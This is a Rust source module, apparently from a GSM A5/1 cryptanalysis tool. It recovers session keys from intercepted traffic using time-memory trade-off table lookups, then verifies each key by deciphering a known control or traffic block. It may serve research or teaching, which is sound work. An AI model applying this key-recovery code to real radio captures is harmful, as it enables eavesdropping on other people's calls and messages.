use std::sync::atomic::{AtomicU64, Ordering};
#[cfg(not(target_arch = "wasm32"))]
use std::time::Instant;
#[cfg(target_arch = "wasm32")]
use web_time::Instant;

use rayon::prelude::*;
use serde::Serialize;

use super::extract::Survey;
use super::AttackError;
use crate::a51::{CipherParams, KeyRecovery, RecoverError, SessionKey, DEFAULT_NODE_BUDGET};
use crate::gsm::{
    burst_keystream, decode_frame, CipherMode, CodedBlock, Direction, Intercept, BLOCK_FRAMES,
    BURST_BITS,
};
use crate::tmto::{lookup, KeystreamSample, TmtoTable};

/// Limits on the work a crack may do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
pub struct CrackBudget {
    /// Samples tried, in capture order. `None` tries all.
    pub max_samples: Option<usize>,
    /// Backward-search node budget per candidate state.
    pub node_budget: u64,
}

impl Default for CrackBudget {
    fn default() -> Self {
        CrackBudget {
            max_samples: None,
            node_budget: DEFAULT_NODE_BUDGET,
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum CrackStatus {
    KeyFound,
    /// Every sample was tried without a verified key.
    NotCovered,
    /// The sample budget ran out first.
    BudgetExhausted,
}

#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct CrackResult {
    pub status: CrackStatus,
    #[serde(skip)]
    pub key: Option<SessionKey>,
    /// Samples tried, counted in capture order up to and including the
    /// winner.
    pub samples_tried: usize,
    pub winning_sample: Option<usize>,
    /// First frame of the block that confirmed the key.
    pub verification_frame: Option<u32>,
    /// Mean wall time per processed sample.
    pub lookup_latency_s: f64,
    /// Candidate states whose backward search hit the node budget.
    pub recovery_budget_hits: u64,
}

/// Decipher a captured block with `key`.
pub fn decipher_block(
    params: &CipherParams,
    mode: CipherMode,
    key: SessionKey,
    block: &CodedBlock,
) -> Vec<bool> {
    let mut out = block.coded.clone();
    for (i, chunk) in out.chunks_mut(BURST_BITS).enumerate() {
        let ks = burst_keystream(mode, params, key, block.frame + i as u32, block.direction)
            .expect("key and frame fit the cipher");
        if let Some(ks) = ks {
            crate::bits::xor_into(chunk, &ks);
        }
    }
    out
}

/// Whether `key` turns `block` into a well-formed frame.
pub fn key_decodes(
    params: &CipherParams,
    mode: CipherMode,
    key: SessionKey,
    block: &CodedBlock,
) -> bool {
    decode_frame(&decipher_block(params, mode, key, block)).is_ok()
}

/// Enciphered blocks of the target whose position the listener knows:
/// control blocks after the cipher mode command and, with known hopping
/// parameters, the first traffic blocks.
pub fn attributable_blocks(intercept: &Intercept, survey: &Survey) -> Vec<CodedBlock> {
    let mut out: Vec<CodedBlock> = survey.enciphered_control().cloned().collect();
    if let (Some(hop), Some(start)) = (&survey.hop, survey.traffic_start()) {
        for j in 0..2 {
            for dir in [Direction::Down, Direction::Up] {
                let frame = start + j * BLOCK_FRAMES;
                out.extend(intercept.block(frame, hop.slot, dir, |f| hop.arfcn(f)));
            }
        }
    }
    out.sort_by_key(|b| (b.frame, b.direction));
    out
}

fn in_block(sample: &KeystreamSample, block: &CodedBlock) -> bool {
    sample.direction == block.direction
        && (block.frame..block.frame + BLOCK_FRAMES).contains(&sample.tdma_frame)
}

struct Attempt {
    key: SessionKey,
    verification_frame: u32,
}

fn try_sample(
    params: &CipherParams,
    tables: &[TmtoTable],
    recovery: &KeyRecovery,
    blocks: &[CodedBlock],
    sample: &KeystreamSample,
    budget_hits: &AtomicU64,
) -> Option<Attempt> {
    let check = blocks.iter().find(|b| !in_block(sample, b))?;
    for state in lookup(tables, sample) {
        let keys = match recovery.recover(&state, sample.frame, sample.absolute_offset()) {
            Ok(keys) => keys,
            Err(RecoverError::BudgetExceeded { .. }) => {
                budget_hits.fetch_add(1, Ordering::Relaxed);
                continue;
            }
            Err(_) => continue,
        };
        for key in keys {
            if key_decodes(params, CipherMode::A51, key, check) {
                return Some(Attempt {
                    key,
                    verification_frame: check.frame,
                });
            }
        }
    }
    None
}

/// Try samples against the tables until a key is confirmed by deciphering
/// an independent block. Samples are processed concurrently, but the
/// reported winner is always the earliest sample in capture order that
/// yields a verified key; work on later samples is abandoned once it is
/// known.
pub fn crack_session(
    intercept: &Intercept,
    survey: &Survey,
    samples: &[KeystreamSample],
    tables: &[TmtoTable],
    budget: CrackBudget,
) -> Result<CrackResult, AttackError> {
    let params = intercept
        .header
        .preset
        .params()
        .ok_or(AttackError::UnknownPreset)?;
    if let Some(t) = tables.iter().find(|t| t.params.cipher != params) {
        return Err(AttackError::PresetMismatch {
            tables: t.params.cipher.preset.to_string(),
            capture: intercept.header.preset.to_string(),
        });
    }
    let limit = budget
        .max_samples
        .map_or(samples.len(), |m| m.min(samples.len()));
    let blocks = attributable_blocks(intercept, survey);
    let recovery = KeyRecovery::new(&params).with_node_budget(budget.node_budget);
    let processed = AtomicU64::new(0);
    let nanos = AtomicU64::new(0);
    let budget_hits = AtomicU64::new(0);

    let winner = if tables.is_empty() {
        None
    } else {
        samples[..limit]
            .par_iter()
            .enumerate()
            .find_map_first(|(i, s)| {
                let t0 = Instant::now();
                let r = try_sample(&params, tables, &recovery, &blocks, s, &budget_hits);
                nanos.fetch_add(t0.elapsed().as_nanos() as u64, Ordering::Relaxed);
                processed.fetch_add(1, Ordering::Relaxed);
                r.map(|a| (i, a))
            })
    };

    let n = processed.load(Ordering::Relaxed);
    let lookup_latency_s = if n == 0 {
        0.0
    } else {
        nanos.load(Ordering::Relaxed) as f64 / n as f64 * 1e-9
    };
    let recovery_budget_hits = budget_hits.load(Ordering::Relaxed);
    Ok(match winner {
        Some((i, a)) => CrackResult {
            status: CrackStatus::KeyFound,
            key: Some(a.key),
            samples_tried: i + 1,
            winning_sample: Some(i),
            verification_frame: Some(a.verification_frame),
            lookup_latency_s,
            recovery_budget_hits,
        },
        None => CrackResult {
            status: if limit < samples.len() {
                CrackStatus::BudgetExhausted
            } else {
                CrackStatus::NotCovered
            },
            key: None,
            samples_tried: limit,
            winning_sample: None,
            verification_frame: None,
            lookup_latency_s,
            recovery_budget_hits,
        },
    })
}
